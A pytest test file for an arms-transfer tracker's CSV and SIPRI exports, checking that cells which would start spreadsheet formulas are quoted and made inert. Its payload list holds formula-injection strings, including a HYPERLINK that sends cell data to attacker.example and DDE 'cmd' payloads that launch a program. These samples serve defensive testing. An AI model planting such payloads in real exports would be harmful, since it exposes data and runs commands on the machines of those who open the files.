"""CSV exports: no cell may run as a spreadsheet formula, whatever a submitter wrote."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date

import pytest
from tests.store.conftest import article

from armstrack.records import (
    ActorKind,
    ActorRef,
    Category,
    Report,
    ResolvedTransfer,
    Status,
    StatusEvent,
    TransferDetail,
)
from armstrack.store import Store, export

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Reuters")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _transfer(name: str = "Iran", systems: tuple[str, ...] = ("Shahed-136",)) -> ResolvedTransfer:
    return ResolvedTransfer(
        id=7,
        supplier=ActorRef("IRN", ActorKind.STATE, name),
        recipient=ActorRef("RUS", ActorKind.STATE, "Russia"),
        category=Category.UAV,
        status=Status.DELIVERED,
        systems=systems,
        quantity=0,
        first_reported=date(2024, 2, 21),
        last_reported=date(2024, 3, 1),
        reports=1,
        outlets=1,
        origins=1,
        denied_by=(),
    )


def _report(outlet: str | None, url: str | None = None) -> Report:
    return Report(
        mention_id=1,
        article_id=1,
        version_id=1,
        url=url,
        title=None,
        outlet=outlet,
        published=date(2024, 3, 1),
        origin="origin-1",
        status=Status.DELIVERED,
        quantity=None,
        duplicate_of=None,
        claims=(),
        evidence=(),
    )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _inert(formula: str) -> str:
    """What a formula cell reads back as (a carriage return is written as a newline)."""
    return "'" + formula.replace("\r", "\n")


@pytest.mark.parametrize("formula", FORMULAS)
def test_inert_cell_quotes_what_would_start_a_formula(formula: str) -> None:
    assert export.inert_cell(formula) == _inert(formula)


@pytest.mark.parametrize(
    "value",
    ["Iran", "2024-03-01", "IRN", "houthis", "Shahed-136", "", "a=b", " =1", 7, 0, -3, None],
)
def test_inert_cell_leaves_plain_values_alone(value: object) -> None:
    assert export.inert_cell(value) == value


@pytest.mark.parametrize("formula", FORMULAS)
def test_to_csv_neutralises_formulas_in_every_text_cell(formula: str) -> None:
    rows = _rows(export.to_csv([_transfer(name=formula, systems=(formula, "Geran-2"))]))
    assert rows[0]["supplier_name"] == _inert(formula)
    assert rows[0]["systems"] == _inert(formula) + "; Geran-2"


def test_to_csv_keeps_a_carriage_return_inside_its_row() -> None:
    rows = _rows(export.to_csv([_transfer(name="Ir\ran"), _transfer(name="Iran\r\n")]))
    assert [r["supplier_name"] for r in rows] == ["Ir\nan", "Iran\n"]
    assert all(r["recipient"] == "RUS" for r in rows)


def test_to_csv_keeps_ids_dates_and_numbers_as_they_are() -> None:
    row = _rows(export.to_csv([_transfer()]))[0]
    assert row["id"] == "7" and row["quantity"] == "0"
    assert row["first_reported"] == "2024-02-21" and row["last_reported"] == "2024-03-01"
    assert row["supplier"] == "IRN" and row["systems"] == "Shahed-136"


@pytest.mark.parametrize("formula", FORMULAS)
def test_to_sipri_neutralises_formulas_in_sources(formula: str) -> None:
    detail = TransferDetail(
        _transfer(),
        (StatusEvent(Status.AGREED, date(2023, 5, 2), 1),),
        (_report(formula),),
    )
    row = _rows(export.to_sipri([detail]))[0]
    assert row["sources"] == _inert(formula)
    assert row["order_year"] == "2023" and row["delivery_years"] == "2024"
    assert row["supplier"] == "Iran" and row["designation"] == "Shahed-136"


def test_to_sipri_sources_name_outlet_and_address() -> None:
    reports = (_report("Reuters", url="https://r.example/1"), _report(None, url="=1+1"))
    detail = TransferDetail(_transfer(), (), reports)
    assert _rows(export.to_sipri([detail]))[0]["sources"] == (
        "Reuters <https://r.example/1>; unknown outlet <=1+1>"
    )


def test_to_sipri_years_are_those_of_the_events_not_the_articles() -> None:
    signed = replace(_report("Reuters"), status=Status.AGREED, times=("2022-Q3",))
    delivered = replace(_report("AP"), times=("2023-11", "2023-12"))
    undated = replace(_report("AFP"), published=date(2025, 1, 5))
    detail = TransferDetail(_transfer(), (), (signed, delivered, undated))
    row = _rows(export.to_sipri([detail]))[0]
    assert row["order_year"] == "2022"
    assert row["delivery_years"] == "2023; 2025"


def test_to_sipri_keeps_a_submitted_formula_inert_from_the_store(store: Store) -> None:
    """The outlet a submitter names ends up in the register's sources column."""
    outlet = '=HYPERLINK("http://attacker.example","Reuters")'
    store.ingest(
        [
            article(
                "Iran has delivered Shahed-136 drones to Russia, two officials said.",
                url="https://news.example/drones",
                outlet=outlet,
            )
        ]
    )
    (transfer,) = store.transfers()
    detail = store.transfer(transfer.id)
    assert detail is not None
    row = _rows(export.to_sipri([detail]))[0]
    assert row["sources"] == "'" + outlet + " <https://news.example/drones>"
